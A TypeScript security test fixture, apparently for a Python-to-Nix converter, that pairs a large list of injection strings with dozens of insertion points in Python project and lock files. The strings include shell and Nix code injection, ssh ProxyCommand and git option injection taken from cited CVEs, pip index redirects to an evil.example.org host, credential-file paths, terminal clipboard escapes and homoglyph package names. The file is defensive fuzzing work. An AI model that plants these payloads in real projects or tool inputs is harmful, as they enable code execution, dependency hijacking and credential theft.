// Texts that would be code in one of the languages that they pass through: Nix, bash, pip's lines, TOML, a terminal.

const COMMAND = "touch PY2NIX_PWNED";

const NIX = [
  '${abort "PWNED"}',
  "${builtins.readFile /etc/passwd}",
  "''${abort \"PWNED\"}",
  "$${abort}",
  "$$${abort}",
  "''$${abort}",
  "'''${abort}",
  "''\\${abort}",
  "\\${abort}",
  "\\\\${abort}",
  "'${abort}",
  "$",
  "$$",
  "''",
  "'''",
  "''''",
  '"',
  '\\"',
  '\\\\"',
  '"; abort "PWNED"; x = "',
  '" + abort "PWNED" + "',
  '"; } // abort "PWNED" //  { x = "',
  "''; abort \"PWNED\"; x = ''",
  "'' + abort \"PWNED\" + ''",
  '*/ abort "PWNED" /*',
  "/* comment",
  "*/",
  "# comment",
  "#",
  "\n# comment\nabort",
  '"\n];\nabort "PWNED"\n[',
  "<nixpkgs>",
  "./.",
  "/etc/passwd",
  "~/.ssh/id_rsa",
  "${./.}",
  "${toString ./.}",
  "@name@",
  "@requirements@",
  "@out@",
  "let in",
  "rec { }",
  "inherit (builtins) abort;",
  "with builtins; abort",
  "assert false; 1",
  "or",
  "if",
  "__functor",
  "__toString",
  "outPath",
  "builtins.exec",
  "__nixPath",
  "import <nixpkgs> { }",
  "''\n''",
  "\\",
  "\\\\",
  "\\n",
  "\\\n",
];

const SHELL = [
  `$(${COMMAND})`,
  `\`${COMMAND}\``,
  `; ${COMMAND};`,
  `&& ${COMMAND}`,
  `| ${COMMAND}`,
  `& ${COMMAND} &`,
  `'; ${COMMAND}; '`,
  `"; ${COMMAND}; "`,
  `'"'"'; ${COMMAND}; '"'"'`,
  `\\'; ${COMMAND}; \\'`,
  `"$(${COMMAND})"`,
  `'$(${COMMAND})'`,
  `\${IFS}${COMMAND}`,
  `$((1))`,
  `$'\\x27; ${COMMAND}'`,
  `<(${COMMAND})`,
  `> PY2NIX_PWNED`,
  `>> PY2NIX_PWNED`,
  `2>PY2NIX_PWNED`,
  `\n${COMMAND}\n`,
  `\r\n${COMMAND}`,
  `'\n${COMMAND}\n'`,
  `"\n${COMMAND}\n"`,
  "EOF\ntouch PY2NIX_PWNED\n",
  "~",
  "~root",
  "*",
  "?",
  "[a-z]*",
  "{a,b}",
  "!!",
  "!x",
  "$HOME",
  "${HOME}",
  "$PATH",
  "$0",
  "$@",
  "$#",
  "${x:=y}",
  "${x//a/b}",
  "a b",
  "a  b",
  " a",
  "a ",
  "\ta",
  "a;b",
  "(a)",
  "a=b",
  "--",
  "-c",
  "-",
  "--run",
  "-e",
  "-x",
  `--run '${COMMAND}'`,
  "--option",
];

const PIP = [
  "-r /etc/passwd",
  "-r requirements-evil.txt",
  "--index-url https://evil.example.org/",
  " --index-url https://evil.example.org/",
  "\n--index-url https://evil.example.org/\n",
  "\r--index-url https://evil.example.org/",
  "\r\n--index-url=https://evil.example.org/",
  "\x0b--index-url=https://evil.example.org/",
  "\x0c--index-url=https://evil.example.org/",
  "\x1c--index-url=https://evil.example.org/",
  "\x1d--index-url=https://evil.example.org/",
  "\x1e--index-url=https://evil.example.org/",
  "\x85--index-url=https://evil.example.org/",
  "\u2028--index-url=https://evil.example.org/",
  "\u2029--index-url=https://evil.example.org/",
  " \\\n--index-url=https://evil.example.org/",
  "\\",
  " \\",
  " # comment",
  "#egg=other",
  "#subdirectory=../..",
  "&subdirectory=../..",
  " ; extra == 'x'",
  "; python_version < '0'",
  " ; python_version < '0' # ",
  " --hash=sha256:0000000000000000000000000000000000000000000000000000000000000000",
  " --config-settings=--build-option=evil",
  ' --global-option="evil"',
  " --trusted-host evil.example.org",
  "--extra-index-url=https://evil.example.org/",
  "-i https://evil.example.org/",
  "-f https://evil.example.org/",
  "-e .",
  "-e git+https://evil.example.org/r",
  "-c constraints",
  "--no-index",
  "--pre",
  "--require-hashes",
  "--use-feature=x",
  "--find-links=/",
  " @ https://evil.example.org/a.whl",
  " @ file:///etc/passwd",
  "git+https://evil.example.org/r",
  "ext::sh -c touch% PY2NIX_PWNED",
  "git+ext::sh",
  "--upload-pack=touch PY2NIX_PWNED",
  "-u touch",
  "../../../../etc/passwd",
  "..",
  "/",
  "//evil.example.org/share",
  "\\\\evil\\share",
  "C:\\Windows",
  "file:///etc/passwd",
  "${PIP_INDEX_URL}",
  "${SECRET}",
  "$SECRET",
  "%(here)s",
  "%SECRET%",
  "{root:uri}",
  "{env:SECRET}",
  "==1.0",
  ">=1,<2",
  "[extra]",
  "a,b",
  "'",
  '"',
  "'\"",
  "\"'",
  "a' or '1' == '1",
  "' or python_version > '0",
  '" or python_version > "0',
];

const KEYS = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "__defineGetter__",
  "length",
  "0",
  "",
  ".",
  "a.b",
  "main",
  "null",
  "undefined",
  "true",
];

const INVISIBLE = [
  "a\0b",
  "\x1b[2J",
  "\x1b]0;title\x07",
  "\x1b]8;;https://evil.example.org\x07",
  "\x1b[31m",
  "\x9b31m",
  "\x08\x08\x08",
  "\x07",
  "\x7f",
  "\u202eevil",
  "\u2066evil\u2069",
  "\u200e",
  "\u061c",
  "\u2028",
  "\ufeff",
  "a\u0301",
  "\u{1f600}",
  "\u{e0041}",
  "\u0130",
  "x".repeat(5000),
];

/** What advisories and issues of other tools were about. */
const ADVISORIES = [
  // pip, a revision of Mercurial: CVE-2023-5752.
  "--config=hooks.pre-clone=touch PY2NIX_PWNED",
  "--config=alias.clone=!touch${IFS}PY2NIX_PWNED",
  // Poetry, a repository or reference that git takes for an option: CVE-2022-36069. git itself: CVE-2018-17456.
  "-u./payload",
  "--exec=touch${IFS}PY2NIX_PWNED",
  "-ccore.sshCommand=touch${IFS}PY2NIX_PWNED",
  // git, Mercurial and Subversion, a host that ssh takes for an option: CVE-2017-1000117.
  "ssh://-oProxyCommand=touch${IFS}PY2NIX_PWNED/r",
  "-oProxyCommand=touch${IFS}PY2NIX_PWNED",
  // Composer, a branch in a command line: CVE-2024-35242.
  "v1$(touch${IFS}PY2NIX_PWNED)",
  "v1;touch${IFS}PY2NIX_PWNED",
  // Pipenv, an option in a comment: CVE-2022-21668.
  " # -i https://evil.example.org/",
  " # --index-url=https://evil.example.org/",
  // pip, the name of a file that is fetched: CVE-2019-20916; setuptools: CVE-2025-47273.
  "..%2f..%2f.bashrc",
  "%2e%2e/%2e%2e/.bashrc",
  "/etc/cron.d/evil",
  // A reference or folder that leads pip to another repository or folder than the one that is read.
  "v1@evil",
  "v1#subdirectory=evil",
  "v1#egg=other",
  "a&egg=other",
  "a]@https://evil.example.org/a.whl",
  "a;python_version<'0'",
  "v1?x=@evil",
  // Generators of Nix: goreleaser#6983, nixidy#93, nixfromnpm#11, nix#3989.
  'Say "hello"',
  "the ${image_root} placeholder",
  "(\\${CARGO_HOME}, ~/.cargo/)",
  // Terminals: the clipboard, a query that is answered as if it were typed, a line that is written over.
  "\x1b]52;c;dG91Y2g=\x07",
  "\x1bP+q544e\x1b\\",
  "\x1b[6n",
  "\x9d0;title\x9c",
  "error\rfine ",
  // Text that reads as another: CVE-2021-42574, CVE-2021-42694, tags, fillers and variants.
  "\u202e\u2066# fine\u2069 \u2066",
  "fl\u0430sk",
  "fl\u200bask",
  "fl\u00adask",
  "fl\u{e0001}\u{e0061}\u{e007f}ask",
  "fl\u3164ask",
  "fl\u{e0101}ask",
];

/** None twice. */
export const ATTACKS: readonly string[] = [
  ...new Set([...NIX, ...SHELL, ...PIP, ...KEYS, ...INVISIBLE, ...ADVISORIES]),
];

/** What an attack that works leaves behind in the working folder. */
export const TRACE = "PY2NIX_PWNED";

type Table = Readonly<Record<string, string>>;

const toml = (text: string) => JSON.stringify(text).replaceAll("\x7f", "\\u007f");

const DIGEST = "0123456789abcdef".repeat(4);

const pyproject = (body: string): Table => ({ "pyproject.toml": `[project]\nname = "demo"\nversion = "1"\n${body}` });
const poetry = (body: string): Table => ({
  "pyproject.toml": `[tool.poetry]\nname = "demo"\nversion = "1"\n[tool.poetry.dependencies]\npython = ">=3.9"\n${body}`,
});
const lock = (name: string, body: string): Table => ({
  ...pyproject('dependencies = ["evil-thing"]\n'),
  [name]: body,
});
const poetryLock = (fields: string, files = "[]"): Table => ({
  ...poetry('evil-thing = "*"\n'),
  "poetry.lock": `[[package]]\nname = "evil-thing"\nversion = "1.0"\noptional = false\npython-versions = "*"\ngroups = ["main"]\nfiles = ${files}\n${fields}\n[metadata]\nlock-version = "2.1"\npython-versions = ">=3.9"\ncontent-hash = "00"\n`,
});
const uvLock = (source: string, rest = ""): Table =>
  lock(
    "uv.lock",
    `version = 1\nrequires-python = ">=3.9"\n[[package]]\nname = "demo"\nversion = "1"\nsource = { editable = "." }\ndependencies = [{ name = "evil-thing" }]\n[[package]]\nname = "evil-thing"\nversion = "1.0"\nsource = ${source}\n${rest}`,
  );

/** Every place of a project that can hold any text. */
export const POSITIONS: Readonly<Record<string, (attack: string) => Table>> = {
  "requirements: the line": (text) => ({ "requirements.txt": `${text}\n` }),
  "requirements: the name": (text) => ({ "requirements.txt": `evil${text}==1.0\n` }),
  "requirements: the version": (text) => ({ "requirements.txt": `evil==1.0${text}\n` }),
  "requirements: ===": (text) => ({ "requirements.txt": `evil===${text}\n` }),
  "requirements: the extra": (text) => ({ "requirements.txt": `evil[${text}]\n` }),
  "requirements: a marker's text": (text) => ({ "requirements.txt": `evil ; platform_version != "${text}"\n` }),
  "requirements: the URL": (text) => ({ "requirements.txt": `evil @ https://example.org/${text}.tar.gz\n` }),
  "requirements: the fragment": (text) => ({
    "requirements.txt": `evil @ git+https://example.org/r@v1#subdirectory=${text}\n`,
  }),
  "requirements: the path": (text) => ({ "requirements.txt": `./a${text}/evil-1.0-py3-none-any.whl\n` }),
  "requirements: the editable": (text) => ({ "requirements.txt": `-e git+https://example.org/r@${text}#egg=evil\n` }),
  "requirements: --index-url": (text) => ({ "requirements.txt": `--index-url https://example.org/${text}\nevil\n` }),
  "requirements: --find-links": (text) => ({ "requirements.txt": `--find-links ./${text}\nevil\n` }),
  "requirements: --find-links in quotes": (text) => ({ "requirements.txt": `--find-links "./${text}"\nevil\n` }),
  "requirements: --trusted-host": (text) => ({ "requirements.txt": `--trusted-host '${text}'\nevil\n` }),
  "requirements: --config-settings": (text) => ({ "requirements.txt": `evil --config-settings "a=${text}"\n` }),
  "requirements: a comment": (text) => ({ "requirements.txt": `evil # ${text}\n` }),
  "requirements: an include": (text) => ({
    "requirements.txt": `-r ${text}.txt\nevil\n`,
    [`${text}.txt`]: "evil-two\n",
  }),
  "project: name": (text) => ({
    "pyproject.toml": `[project]\nname = ${toml(text)}\nversion = "1"\ndependencies = ["evil"]\n`,
  }),
  "project: a dependency": (text) => pyproject(`dependencies = [${toml(text)}]\n`),
  "project: a URL": (text) => pyproject(`dependencies = [${toml(`evil @ https://example.org/${text}`)}]\n`),
  "project: a marker": (text) => pyproject(`dependencies = [${toml(`evil ; platform_release != '${text}'`)}]\n`),
  "project: an extra": (text) => pyproject(`[project.optional-dependencies]\n${toml(text)} = ["evil"]\n`),
  "project: a group": (text) => pyproject(`[dependency-groups]\n${toml(text)} = ["evil"]\n`),
  "project: requires-python": (text) =>
    pyproject(`requires-python = ${toml(`>=3.9${text}`)}\ndependencies = ["evil"]\n`),
  "project: a key of a tool": (text) =>
    pyproject(
      `dependencies = ["evil"]\n[tool.${toml(text)}]\nx = 1\n[tool.uv.sources]\n${toml(text)} = { path = "x" }\n`,
    ),
  "build-system: requires": (text) => ({
    "pyproject.toml": `[build-system]\nrequires = [${toml(`evil @ file:///${text}`)}]\n[project]\nname = "demo"\nversion = "1"\n`,
  }),
  "poetry: a name": (text) => poetry(`${toml(text)} = "*"\n`),
  "poetry: a URL": (text) => poetry(`evil = { url = ${toml(`https://example.org/${text}`)} }\n`),
  "poetry: a repository": (text) => poetry(`evil = { git = ${toml(`https://example.org/${text}`)} }\n`),
  "poetry: a repository's whole address": (text) => poetry(`evil = { git = ${toml(text)} }\n`),
  "poetry: a branch": (text) => poetry(`evil = { git = "https://example.org/r", branch = ${toml(text)} }\n`),
  "poetry: a subdirectory": (text) =>
    poetry(`evil = { git = "https://example.org/r", subdirectory = ${toml(text)} }\n`),
  "poetry: a path": (text) => poetry(`evil = { path = ${toml(`./${text}`)}, develop = true }\n`),
  "poetry: a file": (text) => poetry(`evil = { file = ${toml(`${text}/evil-1.0-py3-none-any.whl`)} }\n`),
  "poetry: an extra": (text) => poetry(`evil = { version = "*", extras = [${toml(text)}] }\n`),
  "poetry: markers": (text) => poetry(`evil = { version = "*", markers = ${toml(`platform_version != '${text}'`)} }\n`),
  "poetry: a source": (text) =>
    poetry(`evil = "*"\n[[tool.poetry.source]]\nname = ${toml(text)}\nurl = ${toml(`https://example.org/${text}`)}\n`),
  "poetry: a group": (text) => poetry(`[tool.poetry.group.${toml(text)}.dependencies]\nevil = "*"\n`),
  "uv: an index": (text) =>
    pyproject(
      `dependencies = ["evil"]\n[[tool.uv.index]]\nname = ${toml(text)}\nurl = ${toml(`https://example.org/${text}`)}\n`,
    ),
  "uv: a repository": (text) =>
    pyproject(
      `dependencies = ["evil"]\n[tool.uv.sources]\nevil = { git = "https://example.org/r", rev = ${toml(text)} }\n`,
    ),
  "uv: a path": (text) =>
    pyproject(`dependencies = ["evil"]\n[tool.uv.sources]\nevil = { path = ${toml(`../${text}`)}, editable = true }\n`),
  "pdm: a source": (text) =>
    pyproject(
      `dependencies = ["evil"]\n[[tool.pdm.source]]\nname = "x"\nurl = ${toml(`https://example.org/${text}`)}\nverify_ssl = false\n`,
    ),
  "pdm: an editable": (text) =>
    pyproject(`[tool.pdm.dev-dependencies]\ndev = [${toml(`-e file:///${text}#egg=evil`)}]\n`),
  "pipfile: a path": (text) => ({ Pipfile: `[packages]\nevil = { path = ${toml(text)}, editable = true }\n` }),
  "pipfile: a reference": (text) => ({
    Pipfile: `[packages]\nevil = { git = "https://example.org/r", ref = ${toml(text)} }\n`,
  }),
  "pipfile: markers": (text) => ({
    Pipfile: `[packages]\nevil = { version = "*", markers = ${toml(`platform_version != '${text}'`)} }\n`,
  }),
  "pipfile: a name": (text) => ({ Pipfile: `[packages]\n${toml(text)} = "*"\n` }),
  "conda: a package": (text) => ({ "environment.yml": `dependencies:\n  - ${toml(text)}\n  - pip:\n    - evil\n` }),
  "conda: a package for pip": (text) => ({
    "environment.yml": `dependencies:\n  - flask\n  - pip:\n    - ${toml(`evil @ https://example.org/${text}`)}\n`,
  }),
  "script: a dependency": (text) => ({
    "tool.py": `# /// script\n# dependencies = [${toml(`evil @ https://example.org/${text}`)}]\n# ///\n`,
  }),
  "hatch: an environment": (text) => pyproject(`[tool.hatch.envs.${toml(text)}]\ndependencies = ["evil"]\n`),
  "uv: a constraint": (text) =>
    pyproject(
      `dependencies = ["evil"]\n[tool.uv]\nconstraint-dependencies = [${toml(`evil<2 ; platform_version != '${text}'`)}]\n`,
    ),
  "uv: an arbitrary version": (text) =>
    pyproject(`dependencies = ["evil"]\n[tool.uv]\nconstraint-dependencies = [${toml(`evil===${text}`)}]\n`),
  "pipfile: an index": (text) => ({
    Pipfile: `[[source]]\nname = ${toml(text)}\nurl = ${toml(`https://example.org/${text}`)}\n[packages]\nevil = { version = "*", index = ${toml(text)} }\n`,
  }),
  "pipfile: Mercurial": (text) => ({
    Pipfile: `[packages]\nevil = { hg = "https://example.org/r", ref = ${toml(text)} }\n`,
  }),
  "setup.cfg: a URL": (text) => ({
    "setup.cfg": `[metadata]\nname = demo\n[options]\ninstall_requires = evil @ https://example.org/${text}\n`,
  }),
  "setup.py: a marker": (text) => ({
    "setup.py": `from setuptools import setup\nsetup(name="demo", install_requires=[${toml(`evil; platform_version != '${text}'`)}])\n`,
  }),
  "poetry.lock: a URL": (text) =>
    poetryLock(`[package.source]\ntype = "url"\nurl = ${toml(`https://example.org/${text}`)}\n`),
  "poetry.lock: a commit": (text) =>
    poetryLock(
      `[package.source]\ntype = "git"\nurl = "https://example.org/r"\nreference = "main"\nresolved_reference = ${toml(text)}\nsubdirectory = ${toml(text)}\n`,
    ),
  "poetry.lock: a file": (text) =>
    poetryLock("", `[{file = ${toml(`evil_thing-1.0-py3-none-any.whl${text}`)}, hash = "sha256:${DIGEST}"}]`),
  "poetry.lock: a file's name": (text) =>
    poetryLock("", `[{file = ${toml(`evil_thing-1.0${text}.tar.gz`)}, hash = "sha256:${DIGEST}"}]`),
  "poetry.lock: a hash": (text) =>
    poetryLock("", `[{file = "evil_thing-1.0.tar.gz", hash = ${toml(`sha256:${DIGEST}${text}`)}}]`),
  "poetry.lock: markers": (text) => poetryLock(`markers = ${toml(`platform_version != '${text}'`)}\n`),
  "uv.lock: a version": (text) =>
    lock(
      "uv.lock",
      `version = 1\nrequires-python = ">=3.9"\n[[package]]\nname = "evil-thing"\nversion = ${toml(text)}\nsource = { registry = "https://example.org/simple" }\n`,
    ),
  "uv.lock: a repository": (text) => uvLock(`{ git = ${toml(`https://example.org/r?rev=${text}#${text}`)} }`),
  "uv.lock: a URL": (text) =>
    uvLock(
      `{ url = ${toml(`https://example.org/${text}.whl`)} }`,
      `wheels = [{ url = ${toml(`https://example.org/${text}.whl`)}, hash = "sha256:${DIGEST}" }]\n`,
    ),
  "uv.lock: a file": (text) =>
    uvLock(
      '{ registry = "https://example.org/simple" }',
      `sdist = { url = ${toml(`https://example.org/${text}/evil_thing-1.0.tar.gz`)}, hash = "sha256:${DIGEST}" }\n`,
    ),
  "uv.lock: a path": (text) => uvLock(`{ directory = ${toml(text)} }`),
  "uv.lock: a registry": (text) =>
    uvLock(
      `{ registry = ${toml(`https://example.org/${text}`)} }`,
      `sdist = { url = "https://example.org/evil_thing-1.0.tar.gz", hash = "sha256:${DIGEST}" }\n`,
    ),
  "poetry.lock: a file with its URL": (text) =>
    poetryLock(
      `[package.source]\ntype = "url"\nurl = ${toml(`https://example.org/${text}/evil_thing-1.0-py3-none-any.whl`)}\n`,
      `[{file = "evil_thing-1.0-py3-none-any.whl", hash = "sha256:${DIGEST}"}]`,
    ),
  "uv.lock: a commit": (text) =>
    uvLock(`{ git = ${toml(`https://example.org/r?rev=${text}#${DIGEST.slice(0, 40)}`)} }`),
  "uv.lock: a wheel": (text) =>
    uvLock(
      '{ registry = "https://example.org/simple" }',
      `wheels = [{ url = ${toml(`https://example.org/${text}/evil_thing-1.0-py3-none-any.whl`)}, hash = "sha256:${DIGEST}" }]\n`,
    ),
  "pylock: an archive": (text) =>
    lock(
      "pylock.toml",
      `lock-version = "1.0"\ncreated-by = ${toml(text)}\n[[packages]]\nname = "evil-thing"\nversion = "1.0"\narchive = { url = ${toml(`https://example.org/${text}.whl`)}, hashes = { sha256 = "${DIGEST}" } }\n`,
    ),
  "pylock: a wheel": (text) =>
    lock(
      "pylock.toml",
      `lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "evil-thing"\nversion = "1.0"\nwheels = [{ name = ${toml(`evil_thing-1.0-py3-none-any.whl`)}, url = ${toml(`https://example.org/${text}`)}, hashes = { sha256 = "${DIGEST}" } }]\n`,
    ),
  "settings: a reason": (text) => ({
    ...pyproject('dependencies = ["flask"]\n'),
    "py2nix.toml": `[packages.flask]\nfrom = "pip"\nreason = ${toml(text)}\n`,
  }),
  "settings: with": (text) => ({
    ...pyproject('dependencies = ["flask"]\n'),
    "py2nix.toml": `with = [${toml(text)}]\n`,
  }),
  "settings: with in quotes": (text) => ({
    ...pyproject('dependencies = ["flask"]\n'),
    "py2nix.toml": `with = [${toml(`a."${text}"`)}]\n`,
  }),
  "settings: an attribute": (text) => ({
    ...pyproject('dependencies = ["flask"]\n'),
    "py2nix.toml": `[packages.flask]\nattribute = ${toml(`"${text}"`)}\n`,
  }),
  "settings: a package": (text) => ({
    ...pyproject('dependencies = ["flask"]\n'),
    "py2nix.toml": `[packages.${toml(text)}]\nfrom = "pip"\n`,
  }),
  "settings: a key": (text) => ({
    ...pyproject('dependencies = ["flask"]\n'),
    "py2nix.toml": `${toml(text)} = true\n`,
  }),
  "settings: a group": (text) => ({
    ...pyproject('dependencies = ["flask"]\n'),
    "py2nix.toml": `groups = [${toml(text)}]\n`,
  }),
  "settings: libraries": (text) => ({
    ...pyproject('dependencies = ["flask"]\n'),
    "py2nix.toml": `libraries = [${toml(`"${text}"`)}]\n`,
  }),
  "a version file": (text) => ({ ...pyproject('dependencies = ["evil"]\n'), ".python-version": `${text}\n` }),
};
